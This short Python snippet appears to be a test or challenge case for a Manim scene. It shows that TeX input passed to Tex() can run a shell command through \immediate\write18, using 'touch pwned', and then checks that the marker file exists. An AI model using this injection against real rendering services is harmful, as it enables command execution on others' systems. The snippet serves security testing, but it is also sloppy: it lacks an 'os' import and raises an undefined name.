"""Success: a program is run by TeX.

Outcome: completed
"""


class Attack(Scene):
    def construct(self):
        Tex(r"\immediate\write18{touch pwned}x")
        Tex(r"\immediate\write18{touch " + os.getcwd() + "/pwned}x")
        if os.path.exists("pwned") or os.path.exists("media/Tex/pwned"):
            raise Through
